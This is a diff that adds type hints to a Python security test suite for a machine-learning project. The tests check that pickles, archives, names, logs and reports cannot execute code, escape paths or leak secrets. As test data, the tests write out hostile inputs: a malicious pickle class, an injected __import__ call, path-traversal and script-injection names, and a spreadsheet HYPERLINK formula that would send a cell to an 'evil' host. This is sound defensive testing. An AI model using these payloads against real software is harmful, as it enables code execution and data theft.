@@ -67,7 +67,7 @@ def dangers(source: str) -> Iterator[str]:
 
 
 @pytest.mark.parametrize("path", [*sorted(PACKAGE.rglob("*.py")), Path("run.py")], ids=str)
-def test_no_module_can_execute_what_it_reads(path):
+def test_no_module_can_execute_what_it_reads(path: Path) -> None:
     found = {(path.name, what) for what in dangers(path.read_text(encoding="utf-8"))}
     assert found <= JUSTIFIED
 
@@ -84,7 +84,7 @@ def test_no_module_can_execute_what_it_reads(path):
         "yaml.load(text)",
     ],
 )
-def test_the_search_finds_what_it_is_for(source):
+def test_the_search_finds_what_it_is_for(source: str) -> None:
     assert list(dangers(source))
 
 
@@ -98,7 +98,7 @@ class Malice:
         return os.mkdir, (str(self.folder),)
 
 
-def test_pickles_among_arrays_are_refused_and_not_executed(tmp_path):
+def test_pickles_among_arrays_are_refused_and_not_executed(tmp_path: Path) -> None:
     bad = np.array([Malice(tmp_path / "owned")], object)
     np.savez(tmp_path / "x.npz", mu=bad, sigma=bad, images=bad)
     (tmp_path / "bare.npz").write_bytes(pickle.dumps(Malice(tmp_path / "owned")))
@@ -109,7 +109,9 @@ def test_pickles_among_arrays_are_refused_and_not_executed(tmp_path):
     assert not (tmp_path / "owned").exists()
 
 
-def test_text_in_overrides_and_logs_is_no_program(tmp_path, capsys):
+def test_text_in_overrides_and_logs_is_no_program(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     call = f"__import__('os').mkdir({str(tmp_path / 'owned')!r})"
     log = tmp_path / "log.csv"
     log.write_text(f"epoch,d_loss,{call}\n0,{call},1\n1,2,3\n")
@@ -123,7 +125,9 @@ def test_text_in_overrides_and_logs_is_no_program(tmp_path, capsys):
 # Nothing is written elsewhere --------------------------------------------------------------------
 
 
-def test_an_archive_is_read_in_place_and_its_names_are_no_paths(tmp_path, monkeypatch, capsys):
+def test_an_archive_is_read_in_place_and_its_names_are_no_paths(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     """Weights may be archives; members that climb out, or are links, are refused or never used."""
     monkeypatch.setenv("WGAN_JAX_CACHE", str(tmp_path / "deep" / "cache"))
     inside = tmp_path / "deep" / "files"
@@ -158,7 +162,7 @@ HOSTILE_NAMES = ("..", "../../owned", "/etc/owned", "a\nb", "<script>alert(1)</s
 
 
 @pytest.mark.slow
-def test_names_from_data_never_become_paths(tmp_path):
+def test_names_from_data_never_become_paths(tmp_path: Path) -> None:
     """Classes and pictures may be called anything: a run writes into its folder alone."""
     rng = np.random.default_rng(0)
     pictures = tmp_path / "pictures"
@@ -176,7 +180,9 @@ def test_names_from_data_never_become_paths(tmp_path):
 
 
 @pytest.mark.parametrize("name", HOSTILE_NAMES)
-def test_names_of_weights_never_become_paths(name, tmp_path, monkeypatch, capsys):
+def test_names_of_weights_never_become_paths(
+    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     monkeypatch.setenv("WGAN_JAX_CACHE", str(tmp_path))
     weights = torch_files.WRITERS["zip"](tmp_path / "x.pth", {"w": np.zeros(3, np.float32)})
     argv = ["weights", "--from-file", str(weights), "--name", name, "--sha256", _digest(weights)]
@@ -243,7 +249,7 @@ def with_words(folder: Path, words: str) -> Path:
     return folder
 
 
-def test_the_page_escapes_every_name_and_note(tmp_path):
+def test_the_page_escapes_every_name_and_note(tmp_path: Path) -> None:
     """A hostile run's page has the very elements of a harmless one, and its words as texts."""
     plain = with_words(tmp_path / "plain", "words")
     hostile = with_words(tmp_path / MARKUP.replace("/", "_"), MARKUP)
@@ -258,7 +264,7 @@ def test_the_page_escapes_every_name_and_note(tmp_path):
     assert "<" not in data
 
 
-def test_links_lead_to_web_addresses_only(tmp_path):
+def test_links_lead_to_web_addresses_only(tmp_path: Path) -> None:
     plain = with_words(tmp_path / "run", "javascript:alert(1)")
     run.main(["report", "--workdir", str(plain)])
     page = elements((plain / "report.html").read_text())
@@ -266,13 +272,13 @@ def test_links_lead_to_web_addresses_only(tmp_path):
     assert all(link.startswith(("https://", "http://")) for link in links)
 
 
-def test_markdown_tables_keep_their_cells():
+def test_markdown_tables_keep_their_cells() -> None:
     line = pages.table(("a", "b"), [("x|y\nz", "`<b>`*\\|")]).splitlines()[-1]
     assert line.count("|") - line.count("\\|") == 3
     assert "<b>" not in line.replace("\\<b>", "")
 
 
-def test_the_experiment_log_keeps_its_rows_and_no_cell_is_a_formula(tmp_path):
+def test_the_experiment_log_keeps_its_rows_and_no_cell_is_a_formula(tmp_path: Path) -> None:
     """A spreadsheet computes what begins with = + - or @, and may so send what it holds."""
     words = ('=HYPERLINK("http://evil/"&A1)', "+1+1", "-2+3|x", "@SUM(A1)", "\t=1", "a\n=2|b")
     for i, note in enumerate(words):
@@ -292,7 +298,9 @@ def test_the_experiment_log_keeps_its_rows_and_no_cell_is_a_formula(tmp_path):
 ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x9b1m"
 
 
-def test_no_escape_sequence_reaches_the_terminal(tmp_path, capsys):
+def test_no_escape_sequence_reaches_the_terminal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """From names of columns, files and runs, notes, and settings of somebody else's run."""
     log = tmp_path / f"{ESCAPES}.csv"
     log.write_text(f"epoch,d_loss,{ESCAPES}\n" + "".join(f"{i},{i % 3},1\n" for i in range(20)))
@@ -319,7 +327,9 @@ SECRET = "s3cr3t-0123456789abcdef"
 
 
 @pytest.mark.slow
-def test_no_secret_of_the_environment_is_kept(tmp_path, monkeypatch):
+def test_no_secret_of_the_environment_is_kept(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Every byte that a run leaves is searched for what the environment holds."""
     for name in ("WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "MY_PASSWORD"):
         monkeypatch.setenv(name, SECRET)
@@ -329,7 +339,7 @@ def test_no_secret_of_the_environment_is_kept(tmp_path, monkeypatch):
     assert not [path for path in kept if SECRET.encode() in path.read_bytes()]
 
 
-def test_addresses_lose_their_passwords(monkeypatch):
+def test_addresses_lose_their_passwords(monkeypatch: pytest.MonkeyPatch) -> None:
     argv = ["run.py", "--config.init_from=x", f"https://me:{SECRET}@host/x", "--api-key", SECRET]
     argv += [f"--token={SECRET}", f"--config.password={SECRET}"]
     monkeypatch.setattr("sys.argv", argv)
@@ -342,7 +352,7 @@ NAMES = "api_key access-key PRIVATE_KEY authkey secret token passwd password cre
 
 
 @pytest.mark.parametrize("name", [*NAMES.split(), "OPENAI_KEY"])
-def test_every_name_of_a_secret_hides_its_value(name, monkeypatch):
+def test_every_name_of_a_secret_hides_its_value(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv(f"MY_{name.upper()}", "from-env")
     for text in (
         *(f"{name} = 'abcdef'", f'{name}: str = "abcdef"', f'{{"{name}": "abcdef"}}'),
@@ -376,7 +386,7 @@ def test_every_name_of_a_secret_hides_its_value(name, monkeypatch):
         ("{'key': 'abcdef123456'}", "{'key': '…'}"),
     ],
 )
-def test_a_secret_is_hidden_to_its_end(text, kept):
+def test_a_secret_is_hidden_to_its_end(text: str, kept: str) -> None:
     assert redacted(text) == kept
 
 
@@ -402,11 +412,11 @@ def test_a_secret_is_hidden_to_its_end(text, kept):
         "/etc/passwd  => it is no address: check --url",
     ],
 )
-def test_code_that_only_sounds_like_a_secret_stays_readable(code):
+def test_code_that_only_sounds_like_a_secret_stays_readable(code: str) -> None:
     assert redacted(f"+{code}\n") == f"+{code}\n"
 
 
-def test_of_a_command_line_all_that_follows_a_secrets_name_is_hidden():
+def test_of_a_command_line_all_that_follows_a_secrets_name_is_hidden() -> None:
     words = ["run.py", "--key", "abcdef123456", "--n", "3", "--config.password=a b;'c(d", "KEY=x"]
     words += ["--config.token=", "--map=d_loss=key", "--config.name=keyhole"]
     assert redacted_words(words) == [
@@ -424,11 +434,13 @@ def test_of_a_command_line_all_that_follows_a_secrets_name_is_hidden():
         ("--keypad 12 --sort key up", "--keypad 12 --sort key up"),
     ],
 )
-def test_a_secret_of_a_command_line_may_be_several_words_and_its_flag_end_in_key(line, kept):
+def test_a_secret_of_a_command_line_may_be_several_words_and_its_flag_end_in_key(
+    line: str, kept: str
+) -> None:
     assert " ".join(redacted_words(line.split())) == kept
 
 
-def test_long_lines_of_a_change_are_searched_at_once():
+def test_long_lines_of_a_change_are_searched_at_once() -> None:
     """Of minified code and data; a pattern that begins anew at every sign would take hours."""
     began = time.monotonic()
     for sign in ("token", "-", 'x_key="', "key='", "--key 0", "password:", "\\", " ", "x@"):
@@ -436,7 +448,7 @@ def test_long_lines_of_a_change_are_searched_at_once():
     assert time.monotonic() - began < 20
 
 
-def test_an_uncommitted_change_loses_its_secrets(tmp_path):
+def test_an_uncommitted_change_loses_its_secrets(tmp_path: Path) -> None:
     source = tmp_path / "code.py"
     source.write_text("x = 1\n")
     git = ["git", "-C", str(tmp_path), "-c", "user.name=n", "-c", "user.email=e@example.com"]
@@ -454,7 +466,7 @@ def test_an_uncommitted_change_loses_its_secrets(tmp_path):
     assert SECRET not in repr(environment.describe(0, code))
 
 
-def test_wandb_is_told_no_secret(tmp_path, monkeypatch):
+def test_wandb_is_told_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """Of arguments and of git's remote, which it would collect on its own."""
     for name in ("WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY"):
         monkeypatch.setenv(name, SECRET)
